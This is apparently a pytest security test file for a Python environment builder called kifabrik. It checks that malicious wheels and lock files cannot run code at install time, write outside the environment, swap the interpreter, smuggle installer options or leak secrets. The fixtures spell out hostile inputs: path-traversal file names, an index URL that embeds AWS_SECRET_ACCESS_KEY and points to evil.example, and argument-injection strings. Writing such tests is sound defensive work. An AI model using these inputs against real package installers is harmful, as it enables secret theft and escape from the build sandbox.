"""What a hostile lock, wheel or neighbour may try while an environment is built."""

import os
import shutil
from pathlib import Path

import pytest

from kifabrik.environments.build import build
from kifabrik.environments.lock import lock
from kifabrik.environments.lockfile import Lock, Pin
from kifabrik.environments.tree import tree_digest
from kifabrik.environments.workers import Limits
from kifabrik.errors import CapacityError, IntegrityError, KifabrikError, UsageError
from wheelwright import make_wheel

PYTHON = "3.11"
ROOT = os.geteuid() == 0
AS_UID = 54321 if ROOT else None
SITE_PACKAGES = f"lib/python{PYTHON}/site-packages"


@pytest.fixture
def wheels(place, monkeypatch):
    folder = place / "wheels"
    folder.mkdir()
    monkeypatch.setenv("UV_NO_INDEX", "1")
    monkeypatch.delenv("PIP_FIND_LINKS", raising=False)
    monkeypatch.setenv("UV_FIND_LINKS", str(folder))
    monkeypatch.setenv("UV_CACHE_DIR", str(place / "uv"))
    return folder


def _build(place, name="evil", tenant="t-one", **kwargs):
    return build(lock(name, python=PYTHON), place / "cache", tenant, as_uid=AS_UID, **kwargs)


def test_no_code_of_a_wheel_runs_while_it_is_locked_or_built(place, wheels):
    canary = place / "canary"
    place.chmod(0o777)
    code = f"open({str(canary)!r}, 'w')\n"
    make_wheel(
        wheels,
        "evil",
        {
            "evil/__init__.py": code,
            "evil.pth": f"import builtins; builtins.open({str(canary)!r}, 'w')\n",
            "sitecustomize.py": code,
            "usercustomize.py": code,
            "evil-1.0.data/scripts/uv": f"#!/bin/sh\ntouch {canary}\n",
            "evil-1.0.data/data/pyvenv.cfg": "home = /tmp\n",
        },
    )
    _build(place)
    assert not canary.exists()


@pytest.mark.parametrize("path", ["scripts/python", "scripts/python3", "data/bin/python"])
def test_a_wheel_cannot_put_its_own_interpreter_into_the_environment(place, wheels, path):
    make_wheel(wheels, "evil", {"evil.py": "", f"evil-1.0.data/{path}": "#!/bin/sh\n"})
    with pytest.raises(UsageError, match="reserved name"):
        _build(place)


def test_a_wheel_cannot_change_what_the_interpreter_reads_first(place, wheels):
    settings = "home = /tmp\ninclude-system-site-packages = true\n"
    files = {"pyvenv.cfg": settings, "lib64": "not a folder"}
    make_wheel(
        wheels, "evil", {"evil.py": "", **{f"evil-1.0.data/data/{name}": text for name, text in files.items()}}
    )
    built = _build(place)
    assert (built.path / "bin/python").readlink() == Path(built.python)
    assert "include-system-site-packages = false" in (built.path / "pyvenv.cfg").read_text()
    assert (built.path / "lib64").readlink() == Path("lib")


def test_a_folder_in_place_of_the_interpreter_is_refused(place, wheels):
    make_wheel(wheels, "evil", {"evil.py": "", "evil-1.0.data/data/lib64/x": ""})
    with pytest.raises(IntegrityError, match="lib64"):
        _build(place)


@pytest.mark.parametrize(
    "path", ["../../../../../../outside.py", "/tmp/kifabrik-outside.py", "evil-1.0.data/data/../../../x"]
)
def test_a_wheel_cannot_write_outside_the_environment(place, wheels, path):
    place.chmod(0o777)
    make_wheel(wheels, "evil", {"evil.py": "", path: "escaped"})
    try:
        built = _build(place)
    except KifabrikError:
        built = None
    escaped = [found for found in place.rglob("*outside.py") if found.is_file()]
    assert not Path("/tmp/kifabrik-outside.py").exists()
    inside = place / "cache/t-one"
    assert all(inside in found.parents for found in escaped)
    assert built is None or tree_digest(built.path) == built.tree_digest


def test_a_wheel_swapped_after_locking_is_refused(place, wheels):
    make_wheel(wheels, "evil", {"evil.py": "x = 1"})
    locked = lock("evil", python=PYTHON)
    make_wheel(wheels, "evil", {"evil.py": "x = 2"})
    with pytest.raises(IntegrityError, match="not the one that was locked"):
        build(locked, place / "cache", "t-one", as_uid=AS_UID)


def test_a_substituted_compiled_file_changes_the_tree_digest(place, wheels):
    make_wheel(wheels, "evil", {"evil.py": "x = 1"})
    built = _build(place)
    compiled = next((built.path / SITE_PACKAGES / "__pycache__").glob("evil.*.pyc"))
    compiled.chmod(0o644)
    data = bytearray(compiled.read_bytes())
    data[-1] ^= 1
    compiled.write_bytes(data)
    compiled.chmod(0o444)
    assert tree_digest(built.path) != built.tree_digest


def test_a_compiled_file_shipped_in_a_wheel_does_not_replace_the_module(place, wheels):
    make_wheel(wheels, "good", {"evil.py": "x = 1"})
    good = _build(place, "good")
    shipped = next((good.path / SITE_PACKAGES / "__pycache__").glob("evil.*.pyc"))
    forged = shipped.read_bytes().replace(b"\x01\x00\x00\x00", b"\x02\x00\x00\x00")
    assert forged != shipped.read_bytes()
    make_wheel(wheels, "evil", {"evil.py": "x = 1", f"__pycache__/{shipped.name}": forged})
    built = _build(place)
    assert (built.path / SITE_PACKAGES / "__pycache__" / shipped.name).read_bytes() == shipped.read_bytes()


def test_a_lock_cannot_make_the_builder_send_its_secrets_to_an_address():
    for address in (
        "https://evil.example/${AWS_SECRET_ACCESS_KEY}",
        "https://evil.example/$HOME",
        "https://%24{X}@e.example",
    ):
        with pytest.raises(UsageError):
            Lock.from_text(f"# kifabrik lock 1: python 3.11, x86_64-manylinux_2_28\n--index-url {address}\n")


def test_a_lock_cannot_smuggle_an_option_into_the_installers_arguments():
    header = "# kifabrik lock 1: python 3.11, x86_64-manylinux_2_28\n"
    for line in (
        "--find-links --config-file=/tmp/x",
        "--index-url https://a.example --no-build",
        "--find-links=/srv",
    ):
        with pytest.raises(UsageError):
            Lock.from_text(f"{header}{line}\n")
    for name, version in (("--x", "1"), ("a", "1 --y"), ("a\n--z", "1"), ("a", "1;b")):
        with pytest.raises(UsageError):
            Lock("3.11", (Pin(name, version, "0" * 64),))


def test_a_tenant_id_cannot_lead_to_another_folder(place):
    for tenant in ("../t-two", "t-one/..", "", ".", "t-one\n", "T-ONE"):
        with pytest.raises(UsageError, match="tenant"):
            build(Lock(PYTHON), place / "cache", tenant, as_uid=AS_UID)


def test_nobody_learns_from_the_cache_what_another_tenant_uses(place, wheels):
    make_wheel(wheels, "evil", {"evil.py": ""})
    first, second = [], []
    one = _build(place, tenant="t-one", log=first.append)
    two = _build(place, tenant="t-two", log=second.append)
    assert one.path != two.path
    assert [line.split(" in ")[0] for line in second[1:]] == [line.split(" in ")[0] for line in first[1:]]
    assert any("Prepared 1 package" in line for line in second)
    inodes = [{file.stat().st_ino for file in built.path.rglob("*.py")} for built in (one, two)]
    assert not inodes[0] & inodes[1]


@pytest.mark.skipif(not ROOT, reason="only root builds as another user")
def test_the_building_user_cannot_change_a_finished_environment(place, wheels):
    make_wheel(wheels, "evil", {"evil.py": ""})
    built = _build(place)
    for path in (built.path.parent.parent, built.path.parent, built.path, *built.path.rglob("*")):
        assert path.lstat().st_uid == 0
        assert path.is_symlink() or not path.lstat().st_mode & 0o022


def test_a_wheel_that_unpacks_to_more_than_the_disk_may_hold_leaves_nothing(place, wheels):
    make_wheel(wheels, "evil", {"evil.py": "", "evil.bin": bytes(200_000_000)})
    free = shutil.disk_usage(place).free
    with pytest.raises(CapacityError, match="disk"):
        _build(place, limits=Limits(keep_free_bytes=free - 100_000_000))
    assert not list((place / "cache").rglob("evil.bin"))
